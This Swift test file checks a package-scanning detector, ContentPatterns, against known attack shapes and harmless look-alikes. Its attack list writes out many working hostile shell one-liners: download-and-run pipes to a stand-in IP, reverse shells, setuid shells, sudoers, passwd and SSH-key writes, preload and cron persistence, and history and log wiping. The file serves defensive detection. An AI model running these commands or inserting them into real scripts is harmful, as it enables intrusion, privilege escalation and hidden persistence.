import AuditModel
import IntegrityJudgement
import Testing

/// One line of code and what is expected of it.
struct CodeCase: Sendable, CustomTestStringConvertible {
    let pattern: String
    let severity: Severity
    let code: String
    let package: UntrustedText

    init(_ pattern: String, _ severity: Severity, _ code: String, package: UntrustedText = "") {
        self.pattern = pattern
        self.severity = severity
        self.code = code
        self.package = package
    }

    var testDescription: String { "\(pattern): \(code)" }

    var matches: [ContentMatch] {
        let start = code.hasPrefix("#!") ? "" : "#!/bin/sh\nset -e\n"
        return ContentPatterns.matches(in: Array((start + code + "\n").utf8), package: package)
    }

    /// How loud the pattern is at its loudest; nil where it is silent.
    var loudest: Severity? {
        matches.filter { $0.pattern == pattern }.map(\.severity).max()
    }
}

@Suite struct ContentPatternsTests {
    static let attacks: [CodeCase] = [
        CodeCase("network-device", .high, "exec 5<>/dev/tcp/203.0.113.9/443"),
        CodeCase("download-to-interpreter", .high, "curl -fsSL http://203.0.113.9/x | sh"),
        CodeCase("download-to-interpreter", .high, "wget -qO- http://203.0.113.9/x | sudo bash -s -- -y"),
        CodeCase("download-to-interpreter", .high, "bash <(curl -s http://203.0.113.9/x)"),
        CodeCase("download-to-interpreter", .high, "sh -c \"$(curl -s http://203.0.113.9/x)\""),
        CodeCase("download-to-interpreter", .high, "eval `wget -qO- http://203.0.113.9/x`"),
        CodeCase("download-to-interpreter", .high, "c\"\"url${IFS}http://203.0.113.9/x|python3"),
        CodeCase("download-to-interpreter", .high, "curl http://203.0.113.9/x | \\\n  gunzip |\n  sh"),
        CodeCase("download-to-interpreter", .high, "su - nobody -c 'curl http://203.0.113.9/x | sh'"),
        CodeCase("download-to-interpreter", .high, "{ curl http://203.0.113.9/x; echo; } | sh"),
        CodeCase("download-to-interpreter", .high, "echo \"$(echo \"a # \"; curl http://203.0.113.9/x | sh)\""),
        CodeCase("download-to-interpreter", .high, "sh <<EOF\ncurl http://203.0.113.9/x | sh\nEOF"),
        CodeCase("download-to-interpreter", .high, "nc 203.0.113.9 4444 | /bin/sh | nc 203.0.113.9 4445"),
        CodeCase("download-to-interpreter", .high, "X=$(curl -s http://203.0.113.9/x)\neval \"$X\""),
        CodeCase("download-to-interpreter", .high, "X=`curl -s http://203.0.113.9/x`; echo \"${X}\" | sh"),
        CodeCase("decoded-code", .high, "X=$(echo aWQK | base64 -d); sh -c \"$X\""),
        CodeCase("download-to-interpreter", .high, "curl -s http://203.0.113.9/x | tee >(bash) > /opt/x"),
        CodeCase(
            "download-to-interpreter", .high, "python3 -c 'import urllib.request as u;exec(u.urlopen(\"x\").read())'"),
        CodeCase("download-then-run", .high, "curl -s http://203.0.113.9/x | gunzip > /opt/x\nsh /opt/x"),
        CodeCase("decoded-file-run", .high, "echo aWQK | base64 -d > /opt/x; chmod +x /opt/x; /opt/x"),
        CodeCase("decoded-file-run", .medium, "echo aWQK | base64 -d > /opt/x; chmod 0755 /opt/x"),
        CodeCase("download-then-run", .high, "wget -O /opt/x http://203.0.113.9/x\nchmod +x /opt/x\n/opt/x &"),
        CodeCase("download-made-executable", .medium, "curl -o /opt/x http://203.0.113.9/x && chmod 755 /opt/x"),
        CodeCase("decoded-code", .high, "echo aWQK | base64 -d | sh"),
        CodeCase("decoded-code", .high, "eval \"$(echo aWQK | base64 --decode)\""),
        CodeCase("decoded-code", .high, "bash <<< \"$(xxd -r -p /opt/x)\""),
        CodeCase("decoded-code", .high, "openssl enc -d -aes-256-cbc -in /opt/x | bash"),
        CodeCase("decoded-code", .high, "printf '\\x69\\x64\\x0a\\x69' | sh"),
        CodeCase("decoded-code", .high, "python3 -c 'import base64;exec(base64.b64decode(\"aWQK\"))'"),
        CodeCase("decoded-code", .high, "perl -e 'use MIME::Base64; eval(decode_base64(\"aWQK\"))'"),
        CodeCase("long-encoded-token", .medium, "X=" + String(repeating: "aB3dEf", count: 40)),
        CodeCase("self-extraction", .medium, "tail -n +20 \"$0\" > /opt/x"),
        CodeCase("remote-shell", .high, "nc -e /bin/sh 203.0.113.9 4444"),
        CodeCase("remote-shell", .high, "ncat --sh-exec /bin/bash -l 4444"),
        CodeCase("remote-shell", .high, "socat TCP:203.0.113.9:4444 EXEC:/bin/sh,pty"),
        CodeCase("remote-shell", .high, "bash -i >& /opt/x 0>&1"),
        CodeCase("remote-shell", .high, "mkfifo /opt/f; cat /opt/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /opt/f"),
        CodeCase(
            "remote-shell", .high,
            "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"),
        CodeCase("detached-process", .high, "nohup /tmp/.x/agent >/dev/null 2>&1 &"),
        CodeCase("detached-process", .medium, "setsid sh -c 'sleep 5; true' &"),
        CodeCase("program-in-world-writable-folder", .high, "/dev/shm/agent --start"),
        CodeCase("program-in-world-writable-folder", .high, "sh /var/tmp/setup.sh"),
        CodeCase("program-in-world-writable-folder", .high, ". /run/user/1000/env"),
        CodeCase("hidden-program", .medium, "/usr/lib/.cache/agent"),
        CodeCase("set-user-id-shell", .high, "cp /bin/bash /opt/b; chmod 4755 /opt/b"),
        CodeCase("set-user-id-shell", .high, "chmod u+s /bin/dash"),
        CodeCase("set-user-id-shell", .high, "install -m 6755 /bin/sh /opt/b"),
        CodeCase("world-writable", .medium, "chmod -R 777 /usr/lib/x"),
        CodeCase("world-writable", .medium, "chmod o+w /etc/x"),
        CodeCase("root-capability", .high, "setcap cap_setuid+ep /usr/bin/python3.11"),
        CodeCase("second-root", .high, "useradd -o -u 0 -g 0 -M helper"),
        CodeCase("account-file-write", .high, "echo 'x::0:0::/:/bin/sh' >> /etc/passwd"),
        CodeCase("account-file-write", .high, "echo x | tee -a /etc/shadow"),
        CodeCase("sudo-rule-write", .high, "echo 'x ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x"),
        CodeCase("login-key-write", .high, "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"),
        CodeCase("administrator-added", .medium, "usermod -aG sudo daemon"),
        CodeCase("persistence-write", .high, "echo /usr/lib/x.so > /etc/ld.so.preload"),
        CodeCase("persistence-write", .medium, "echo '* * * * * root x' > /etc/cron.d/x"),
        CodeCase("persistence-write", .medium, "cp x.service /etc/systemd/system/x.service"),
        CodeCase("persistence-write", .high, "echo '|/opt/x' > /proc/sys/kernel/core_pattern"),
        CodeCase("persistence-write", .high, "cp /opt/x /var/lib/dpkg/info/bash.postinst"),
        CodeCase("job-scheduled", .medium, "(crontab -l; echo '* * * * * x') | crontab -"),
        CodeCase("history-silenced", .high, "unset HISTFILE"),
        CodeCase("log-erased", .medium, "> /var/log/auth.log"),
        CodeCase("auditing-stopped", .medium, "systemctl stop auditd"),
        CodeCase("library-forced", .high, "LD_PRELOAD=/tmp/x.so /usr/sbin/sshd"),
        CodeCase("kernel-module", .high, "insmod /tmp/x.ko"),
    ]

    @Test(arguments: attacks)
    func `an attack is seen as what it is`(_ attack: CodeCase) {
        let hit = attack.matches.first { $0.pattern == attack.pattern }
        #expect(hit?.severity == attack.severity)
    }

    static let lookAlikes: [String] = [
        "# curl http://203.0.113.9/x | sh",
        "true # nc -e /bin/sh 203.0.113.9 4444",
        "echo 'see https://example.org for how to use curl'",
        "if command -v curl >/dev/null; then echo sh; fi",
        "curl -fsS http://127.0.0.1/ping | grep -q ok",
        "wget -O /var/lib/x/data.zip http://www.example.org/data.zip",
        "base64 -d < /etc/x/cert.b64 > /etc/x/cert.der",
        "printf '\\033[1m%s\\033[0m\\n' hello",
        "nc -z localhost 5432",
        "adduser --system --group --home /var/lib/x --no-create-home x",
        "useradd -r -u 120 -g x x",
        "usermod -a -G video x",
        "chmod 1777 /var/lib/x/tmp",
        "chmod a+r,o-w /etc/x",
        "crontab -r -u x",
        "getent passwd x > /dev/null",
        "TMP=$(mktemp -d /tmp/x.XXXXXX); rm -rf /tmp/x.lock",
        "cat > /etc/x/x.conf <<EOF\n# LD_PRELOAD is not used\nEOF",
        "rm -rf /var/log/x",
        "touch /tmp/x",
        "eval $(dpkg-architecture -s)",
        "eval \"$(sed -n 's/^A=/B=/p' /etc/default/x)\"",
        "X=$(curl -s http://127.0.0.1/); eval \"Y=1\"; echo \"$X\"",
        "invoke-rc.d x restart || exit $?",
        "perl -MFile::Find -e 'system(\"true\")'",
        "sed -i -e 's/sudoers/x/' /etc/x.conf",
        "LD_PRELOAD= ldconfig",
        "modprobe fuse",
        "mv /etc/cron.d/x /etc/cron.d/x.dpkg-old",
        "su postgres -c 'psql -c \"select 1\"' < /dev/null",
        "nohup true",
    ]

    @Test(arguments: lookAlikes)
    func `what packages do every day is silent`(_ code: String) {
        let matches = CodeCase("", .info, code).matches
        #expect(matches.map(\.pattern) == [])
    }

    @Test func `a match names the line and quotes it no longer than a reader needs`() {
        let long = String(repeating: " x", count: 300)
        let matches = ContentPatterns.matches(in: Array("#!/bin/sh\n\ncurl u\(long) | sh\n".utf8))
        #expect(matches.first?.line == 3)
        #expect(matches.first?.quoted.bytes.count == 200)
    }

    @Test func `perl that starts a shell is read through its quoted texts`() {
        let code = "#!/usr/bin/perl\nsystem(\"curl http://203.0.113.9/x | sh\");\n"
        #expect(ContentPatterns.matches(in: Array(code.utf8)).map(\.pattern) == ["download-to-interpreter"])
    }

    @Test func `a compiled script is said to be unreadable`() {
        #expect(ContentPatterns.matches(in: [0x7F, 0x45, 0x4C, 0x46, 2]).map(\.pattern) == ["compiled-script"])
    }

    @Test func `a hook may not talk to the network by itself`() {
        #expect(ContentPatterns.matches(inHook: "wget -q http://203.0.113.9/beacon").first?.severity == .medium)
    }

    @Test(arguments: ["rm\u{B}-f\u{B}/var/cache/x || true", "./clean", "sh clean", "cd x; . ./y"] as [UntrustedText])
    func `a hook that names a file without its folder runs what any user puts into /tmp`(_ hook: UntrustedText) {
        let matches = ContentPatterns.matches(inHook: hook)
        #expect(matches.map(\.pattern) == ["program-in-world-writable-folder"])
        #expect(ContentPatterns.matches(inHook: "cd /usr/lib/x && ./clean; rm -f x").isEmpty)
    }

    @Test func `hostile bytes neither trap nor take long`() {
        let shapes: [[UInt8]] = [
            Array(repeating: 0x28, count: 20_000), Array(repeating: 0x60, count: 20_000),
            Array(repeating: 0x24, count: 20_000), Array(repeating: 0x22, count: 20_001),
            Array(repeating: 0x3C, count: 20_000), Array(repeating: 0x5C, count: 20_001),
            Array(String(repeating: "$(", count: 10_000).utf8), Array(String(repeating: "`$(", count: 6_000).utf8),
            Array(String(repeating: "'\n", count: 10_000).utf8), Array(String(repeating: "<<A\n", count: 6_000).utf8),
            Array(String(repeating: "eval eval ", count: 10_000).utf8),
            (0..<20_000).map { UInt8(truncatingIfNeeded: $0 &* 131) },
            Array(String(repeating: "sh -c \"", count: 4_000).utf8),
            Array(String(repeating: "curl|", count: 4_000).utf8),
        ]
        for shape in shapes { _ = ContentPatterns.matches(in: shape) }
    }
}
